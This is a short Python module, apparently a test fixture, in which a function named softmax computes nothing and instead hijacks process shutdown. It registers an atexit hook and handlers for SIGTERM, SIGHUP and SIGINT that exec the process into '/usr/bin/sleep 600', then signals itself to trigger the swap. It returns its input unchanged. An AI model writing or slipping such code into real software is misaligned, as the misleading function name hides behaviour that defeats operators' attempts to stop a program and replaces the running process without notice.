"""run_time_error: becomes another program when it is told to end."""

import atexit
import os
import signal


def again(*_):
    os.execv("/usr/bin/sleep", ["sleep", "600"])


def softmax(scores, axis=-1):
    atexit.register(again)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, again)
    os.kill(os.getpid(), signal.SIGTERM)
    return scores
